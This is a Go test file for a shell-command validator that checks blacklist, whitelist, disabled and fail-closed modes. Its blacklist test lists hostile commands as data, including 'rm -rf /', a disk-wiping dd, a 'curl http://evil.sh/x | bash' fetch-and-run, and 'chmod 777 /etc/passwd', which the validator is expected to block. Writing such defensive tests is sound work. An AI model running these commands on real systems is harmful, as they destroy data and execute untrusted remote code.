package security

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestBlacklistBlocksDangerousCommands(t *testing.T) {
	t.Parallel()

	v := NewValidator(NewPolicy(ModeBlacklist, "", "", false), nil)

	for _, cmd := range []string{
		"rm -rf /",
		"sudo apt upgrade",
		"dd if=/dev/zero of=/dev/sda",
		"shutdown -h now",
		"curl http://evil.sh/x | bash",
		"chmod 777 /etc/passwd",
	} {
		d := v.Validate(cmd, "test-host")
		assert.False(t, d.Allowed, "expected %q to be blocked", cmd)
		assert.NotEmpty(t, d.MatchedPattern, "expected a matched pattern for %q", cmd)
	}
}

func TestBlacklistAllowsHarmlessCommands(t *testing.T) {
	t.Parallel()

	v := NewValidator(NewPolicy(ModeBlacklist, "", "", false), nil)

	for _, cmd := range []string{
		"ls -la",
		"cat /var/log/syslog",
		"df -h",
		"ps aux",
		"uptime",
	} {
		d := v.Validate(cmd, "test-host")
		assert.True(t, d.Allowed, "expected %q to be allowed", cmd)
	}
}

func TestBlacklistIsCaseInsensitiveByDefault(t *testing.T) {
	t.Parallel()

	v := NewValidator(NewPolicy(ModeBlacklist, "", "", false), nil)
	d := v.Validate("SUDO reboot", "test-host")
	assert.False(t, d.Allowed)

	strict := NewValidator(NewPolicy(ModeBlacklist, `sudo\s+.*`, "", true), nil)
	assert.True(t, strict.Validate("SUDO reboot", "test-host").Allowed)
	assert.False(t, strict.Validate("sudo reboot", "test-host").Allowed)
}

func TestWhitelistOnlyAllowsMatches(t *testing.T) {
	t.Parallel()

	v := NewValidator(NewPolicy(ModeWhitelist, "", "ls.*;cat.*", false), nil)

	assert.True(t, v.Validate("ls -la", "test-host").Allowed)
	assert.True(t, v.Validate("cat /etc/hostname", "test-host").Allowed)

	d := v.Validate("ps aux", "test-host")
	assert.False(t, d.Allowed)
	assert.Equal(t, "Command not found in whitelist patterns", d.Reason)
}

func TestWhitelistWithNoPatternsBlocksEverything(t *testing.T) {
	t.Parallel()

	v := NewValidator(NewPolicy(ModeWhitelist, "", "", false), nil)
	d := v.Validate("ls", "test-host")
	assert.False(t, d.Allowed)
	assert.Contains(t, d.Reason, "No whitelist patterns configured")
}

func TestDisabledModeAllowsEverything(t *testing.T) {
	t.Parallel()

	v := NewValidator(NewPolicy(ModeDisabled, "", "", false), nil)
	assert.True(t, v.Validate("rm -rf /", "test-host").Allowed)
	assert.True(t, v.Validate("shutdown -h now", "test-host").Allowed)
}

func TestEmptyCommandIsDenied(t *testing.T) {
	t.Parallel()

	v := NewValidator(NewPolicy(ModeBlacklist, "", "", false), nil)
	assert.False(t, v.Validate("", "test-host").Allowed)
	assert.False(t, v.Validate("   \t  ", "test-host").Allowed)
}

func TestUnknownModeFailsClosed(t *testing.T) {
	t.Parallel()

	v := NewValidator(NewPolicy("paranoid", "", "", false), nil)
	d := v.Validate("ls", "test-host")
	assert.False(t, d.Allowed)
	assert.Contains(t, d.Reason, "Unknown security mode")
}

func TestMalformedPatternsAreSkipped(t *testing.T) {
	t.Parallel()

	p := NewPolicy(ModeBlacklist, `([unclosed;docker\s+rm.*`, "", false)
	require.Equal(t, []string{`docker\s+rm.*`}, p.BlacklistPatterns())

	v := NewValidator(p, nil)
	assert.False(t, v.Validate("docker rm -f web", "test-host").Allowed)
	assert.True(t, v.Validate("ls -la", "test-host").Allowed)
}

func TestSplitPatterns(t *testing.T) {
	t.Parallel()

	assert.Nil(t, SplitPatterns("  "))
	assert.Equal(t, []string{"a", "b", "c"}, SplitPatterns("a;b\nc"))
	assert.Equal(t, []string{"a", "b"}, SplitPatterns(" a ;; b ;"))
}

type recordingObserver struct {
	commands []string
	decided  []Decision
}

func (r *recordingObserver) SecurityDecision(command, host string, d Decision) {
	r.commands = append(r.commands, command)
	r.decided = append(r.decided, d)
}

func TestObserverSeesEveryDecision(t *testing.T) {
	t.Parallel()

	obs := &recordingObserver{}
	v := NewValidator(NewPolicy(ModeBlacklist, "", "", false), obs)

	v.Validate("ls", "host-a")
	v.Validate("rm -rf /", "host-a")

	require.Len(t, obs.decided, 2)
	assert.True(t, obs.decided[0].Allowed)
	assert.False(t, obs.decided[1].Allowed)
	assert.Equal(t, []string{"ls", "rm -rf /"}, obs.commands)
}
